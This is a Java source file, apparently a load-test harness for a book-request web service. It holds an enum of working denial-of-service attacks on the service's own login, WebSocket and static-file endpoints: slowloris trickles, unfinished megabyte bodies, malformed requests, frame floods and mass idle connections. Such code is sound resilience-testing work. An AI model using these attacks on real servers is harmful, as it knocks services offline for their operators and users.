package io.bookbell.bench.attacks;

import static io.bookbell.bench.attacks.Target.hear;
import static io.bookbell.bench.attacks.Target.send;

import java.io.IOException;
import java.net.Socket;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Denial-of-service attacks. */
enum Attack {
  MANY_FIELDS("30,000 unknown fields, to sign in; 8 at a time") {
    @Override
    void run(Target target) {
      String body =
          IntStream.range(0, 30_000)
              .mapToObj("\"%x\":1"::formatted)
              .collect(Collectors.joining(",", "{", "}"));
      target.everyConnection(
          8,
          (socket, _) -> {
            send(socket, head("POST /api/auth/login", body.length()));
            send(socket, body);
            hear(socket);
          });
    }
  },
  UNFINISHED_BODIES("450 bodies of 1 MB that never end, without a session") {
    @Override
    void run(Target target) {
      target.everyConnection(
          450,
          (socket, number) -> {
            String path = number % 2 == 0 ? "/api/auth/login" : "/api/book-requests";
            unfinished(target, socket, head("POST " + path, 1_000_000));
          });
    }
  },
  UNFINISHED_BODIES_OF_A_USER("450 bodies of 1 MB that never end, of one user") {
    @Override
    void run(Target target) {
      String head = signedIn(target, head("POST /api/ws-ticket", 1_000_000));
      target.everyConnection(450, (socket, _) -> unfinished(target, socket, head));
    }
  },
  TRICKLE("1,000 requests that grow by a byte a second, in head or body") {
    @Override
    void run(Target target) {
      target.everyConnection(
          1000,
          (socket, number) -> {
            send(socket, number % 2 == 0 ? "GET /" : head("POST /api/auth/login", 1000));
            while (!target.isOver()) {
              send(socket, "x");
              Thread.sleep(1000);
            }
          });
    }
  },
  INVENTED_METHODS("methods that nobody has heard of, a new one each time") {
    @Override
    void run(Target target) {
      var invented = new AtomicInteger();
      target.everyConnection(
          4,
          (socket, _) -> {
            String method = "M" + invented.incrementAndGet();
            send(socket, method + " /health/live HTTP/1.1\nHost: a\nConnection: close\n\n");
            hear(socket);
          });
    }
  },
  UPGRADES("450 requests with a body and Upgrade: websocket") {
    @Override
    void run(Target target) {
      String body = "{\"email\":\"a@b.test\"}";
      String upgrade = "\nConnection: upgrade\nUpgrade: websocket\n\n";
      String head = head("POST /api/auth/login", body.length()).replace("\n\n", upgrade);
      target.everyConnection(
          450,
          (socket, _) -> {
            send(socket, head + body);
            hear(socket);
          });
    }
  },
  NO_HTTP("requests without a good host, with bad chunks, of no known kind") {
    @Override
    void run(Target target) {
      String chunked = "POST / HTTP/1.1\nHost: a\nTransfer-Encoding: chunked\n\nzz\n";
      String form =
          head("POST /api/auth/login", 2)
              .replace("application/json", "multipart/form-data; boundary=");
      String[] bad = {"GET / HTTP/1.1\nHost: a b\n\n", chunked, form + "{}", "GET\n\n"};
      target.everyConnection(
          8,
          (socket, number) -> {
            send(socket, bad[number % bad.length]);
            hear(socket);
          });
    }
  },
  FRAMES("8 sockets of one user that send frames as fast as they can") {
    @Override
    void run(Target target) {
      byte[] frame = new byte[8 + 65_535];
      frame[0] = (byte) 0x82;
      frame[1] = (byte) 0xFE;
      frame[2] = (byte) 0xFF;
      frame[3] = (byte) 0xFF;
      target.everyConnection(
          8,
          (socket, _) -> {
            send(socket, handshake(target));
            hear(socket);
            while (!target.isOver()) {
              socket.getOutputStream().write(frame);
            }
          });
    }
  },
  SLOW_READERS("300 connections that ask for the page's largest file and do not read") {
    @Override
    void run(Target target) {
      String request = "GET /openapi.yaml HTTP/1.1\nHost: a\n\n";
      target.everyConnection(
          300,
          (socket, _) -> {
            socket.setReceiveBufferSize(1 << 12);
            send(socket, request.repeat(50));
            while (!target.isOver()) {
              Thread.sleep(200);
            }
          });
    }
  },
  SILENCE("2,000 connections on which nothing is said") {
    @Override
    void run(Target target) {
      target.everyConnection(2000, (socket, _) -> target.hold(socket));
    }
  };

  final String description;

  Attack(String description) {
    this.description = description;
  }

  /** Attacks until the target's deadline. */
  abstract void run(Target target);

  private static String head(String line, int length) {
    return line
        + " HTTP/1.1\nHost: a\nContent-Type: application/json\nContent-Length: "
        + length
        + "\n\n";
  }

  private static String signedIn(Target target, String head) {
    return head.replace("\n\n", "\nAuthorization: Bearer " + target.token() + "\n\n");
  }

  private static void unfinished(Target target, Socket socket, String head) throws IOException {
    send(socket, head);
    send(socket, " ".repeat(900_000));
    target.hold(socket);
  }

  private static String handshake(Target target) {
    return signedIn(
        target,
        "GET /api/book-requests/ws?user_id="
            + target.user()
            + " HTTP/1.1\nHost: a\nConnection: Upgrade\nUpgrade: websocket\n"
            + "Sec-WebSocket-Version: 13\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\n\n");
  }
}
